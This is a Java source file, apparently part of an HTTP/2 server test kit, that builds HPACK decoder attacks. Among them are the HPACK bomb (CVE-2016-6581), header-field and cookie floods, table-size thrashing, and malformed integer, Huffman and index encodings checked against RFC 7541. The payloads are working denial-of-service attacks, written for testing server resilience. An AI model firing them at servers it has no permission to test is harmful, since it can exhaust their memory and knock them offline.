package dev.weir.attack;

import static dev.weir.wire.testkit.Http2Wire.END_HEADERS;
import static dev.weir.wire.testkit.Http2Wire.END_STREAM;
import static dev.weir.wire.testkit.Http2Wire.HEADERS;

import dev.weir.wire.testkit.Http2Wire;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;

/** Attacks on the decoder of HPACK (RFC 7541): blocks that decode to far more than they are, or not at all. */
public final class HpackAttacks {
    private static final int INDEXED = 0x80;
    /** The first place of the dynamic table. */
    private static final int FIRST_DYNAMIC = 62;

    private static final String METHOD_GET = "82";
    private static final String PATH_ROOT = "84";

    private HpackAttacks() {}

    /** All of them that are attacks on any server. */
    public static List<Http2Attack> all() {
        return List.of(
                bomb(),
                smallBomb(),
                cookieCrumbs(),
                manyFields(),
                thrash(),
                endlessSizeUpdates(),
                longInteger(),
                overflowingInteger(),
                paddingOfEight(),
                paddingOfZeros(),
                endOfString(),
                indexZero(),
                indexPastTheEnd(),
                literalIndexPastTheEnd(),
                lateSizeUpdate(),
                sizeUpdateOverTheLimit(),
                cutWithinAString());
    }

    /** A literal that is not indexed, its texts not compressed (section 6.2.2); lengths below 16,511. */
    static byte[] literal(String name, String value) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(0);
        text(out, name);
        text(out, value);
        return out.toByteArray();
    }

    /** Returns the index of the connection's scheme in the static table, in hex. */
    private static String scheme(Http2Wire wire) {
        return wire.scheme().equals("https") ? "87" : "86";
    }

    /** Returns a GET of {@code /} from the static table, in hex: method, scheme, path. */
    private static String get(Http2Wire wire) {
        return METHOD_GET + scheme(wire) + PATH_ROOT;
    }

    private static void text(ByteArrayOutputStream out, String text) {
        int length = text.length();
        if (length < 127) {
            out.write(length);
        } else {
            out.write(127);
            for (int rest = length - 127; ; rest >>>= 7) {
                if (rest < 128) {
                    out.write(rest);
                    break;
                }
                out.write(rest & 127 | 128);
            }
        }
        out.writeBytes(text.getBytes(StandardCharsets.ISO_8859_1));
    }

    /** One field of nearly the whole table, and then blocks of references to it, an octet each. */
    private static Http2Attack bomb(String name, int references) {
        return Http2Attack.begun(name, (wire, _, size) -> {
            wire.get(1, "/plaintext");
            wire.headers(
                    3,
                    true,
                    ":method: GET",
                    ":scheme: " + wire.scheme(),
                    ":authority: a",
                    ":path: /plaintext",
                    "x: " + "v".repeat(4000));
            for (int stream = 5; stream < 5 + 2 * size; stream += 2) {
                ByteArrayOutputStream block = new ByteArrayOutputStream();
                block.writeBytes(HexFormat.of().parseHex(get(wire)));
                for (int i = 0; i < references; i++) {
                    block.write(INDEXED | FIRST_DYNAMIC);
                }
                wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray());
            }
        });
    }

    /** 64 MiB a frame. */
    public static Http2Attack bomb() {
        return bomb("HPACK bomb, CVE-2016-6581", 16_000);
    }

    /** Over the limit of a list, but not so far that the connection need end. */
    public static Http2Attack smallBomb() {
        return bomb("small HPACK bomb, CVE-2016-6581", 30);
    }

    /** A cookie in thousands of crumbs. */
    public static Http2Attack cookieCrumbs() {
        return Http2Attack.begun("cookie crumbs", (wire, _, size) -> {
            // not indexed, with the name at 32 of the static table
            byte[] crumb = {0x0f, 17, 1, 'a'};
            for (int stream = 1; stream < 2 * size; stream += 2) {
                ByteArrayOutputStream block = new ByteArrayOutputStream();
                block.writeBytes(HexFormat.of().parseHex(get(wire)));
                while (block.size() + crumb.length <= 16_384) {
                    block.writeBytes(crumb);
                }
                wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray());
            }
        });
    }

    /** As many fields as a frame can hold, of an octet each. */
    public static Http2Attack manyFields() {
        return Http2Attack.begun("thousands of small fields", (wire, _, size) -> {
            for (int stream = 1; stream < 2 * size; stream += 2) {
                ByteArrayOutputStream block = new ByteArrayOutputStream();
                block.writeBytes(HexFormat.of().parseHex(get(wire)));
                // accept-encoding: gzip, deflate, from the static table
                for (int i = 0; i < 2000; i++) {
                    block.write(INDEXED | 16);
                }
                wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray());
            }
        });
    }

    /** The table is emptied and filled again by each request. */
    public static Http2Attack thrash() {
        return Http2Attack.begun("table-size thrash", (wire, seen, size) -> {
            ByteArrayOutputStream block = new ByteArrayOutputStream();
            // size updates to 0 and to 4,096, then a GET, and fields that are kept
            block.writeBytes(HexFormat.of().parseHex("203fe11f" + METHOD_GET + scheme(wire)));
            block.writeBytes(literal(":path", "/plaintext"));
            block.writeBytes(literal(":authority", "a"));
            for (int i = 0; i < 40; i++) {
                block.write(0x40);
                text(block, "x" + i);
                text(block, "v".repeat(60));
            }
            for (int stream = 1; stream < 2 * size; stream += 2) {
                wire.frame(HEADERS, END_HEADERS | END_STREAM, stream, block.toByteArray());
                if (stream % 100 == 99) {
                    // Not more at once than may be open.
                    int asked = (stream + 1) / 2;
                    wire.flush();
                    seen.await("answers", s -> s.whole() >= asked || s.ended());
                }
            }
        });
    }

    /** A GET with other octets, in hex, before and after it. */
    private static Http2Attack block(String name, String before, String after) {
        return Http2Attack.begun(
                name,
                (wire, _, _) -> wire.frame(
                        HEADERS, END_HEADERS | END_STREAM, 1, HexFormat.of().parseHex(before + get(wire) + after)));
    }

    /** Size updates alone, thousands in a block. */
    public static Http2Attack endlessSizeUpdates() {
        return block("thousands of size updates in a block", "20".repeat(16_000), "");
    }

    /** An index whose number goes on with zeros for longer than any number can. */
    public static Http2Attack longInteger() {
        return block("integer of 20 octets", "", "ff" + "80".repeat(19) + "00");
    }

    /** An index of more than 2^62. */
    public static Http2Attack overflowingInteger() {
        return block("integer that overflows", "", "ff" + "ff".repeat(9) + "7f");
    }

    /** Section 5.2: "A padding strictly longer than 7 bits MUST be treated as a decoding error." */
    public static Http2Attack paddingOfEight() {
        // "a" is 00011, three ones after it, and eight more
        return block("Huffman padding of more than 7 bits", "", "00" + "821fff" + "0161");
    }

    /** "A padding not corresponding to the most significant bits of the code for the EOS symbol ..." */
    public static Http2Attack paddingOfZeros() {
        return block("Huffman padding of zeros", "", "00" + "8118" + "0161");
    }

    /** "A Huffman-encoded string literal containing the EOS symbol MUST be treated as a decoding error." */
    public static Http2Attack endOfString() {
        return block("EOS within a Huffman string", "", "00" + "84ffffffff" + "0161");
    }

    /** Section 6.1: "The index value of 0 is not used. It MUST be treated as a decoding error." */
    public static Http2Attack indexZero() {
        return block("index 0", "", "80");
    }

    /** Section 2.3.3: indices past the tables are decoding errors. */
    public static Http2Attack indexPastTheEnd() {
        return block("index past the end", "", "be");
    }

    /** The same for the name of a literal. */
    public static Http2Attack literalIndexPastTheEnd() {
        return block("name index past the end", "", "7f0001" + "61");
    }

    /** Section 4.2: a size update "MUST occur at the beginning of the first header block". */
    public static Http2Attack lateSizeUpdate() {
        return block("size update after a field", "", "20");
    }

    /** Section 6.3: the new size must not be over the limit, which is 4,096. */
    public static Http2Attack sizeUpdateOverTheLimit() {
        return block("size update over the limit", "3fe2ff03", "");
    }

    /**
     * Section 4.2: an encoder whose table must become smaller says so at the beginning of the next block. For a server
     * that allows less than 4,096 octets; nothing else is wrong with the block.
     */
    public static Http2Attack missingSizeUpdate() {
        return block("missing size update after a lowered setting", "", "");
    }

    /** A text that is longer than its block. */
    public static Http2Attack cutWithinAString() {
        return block("block cut within a string", "", "00" + "0a61");
    }
}
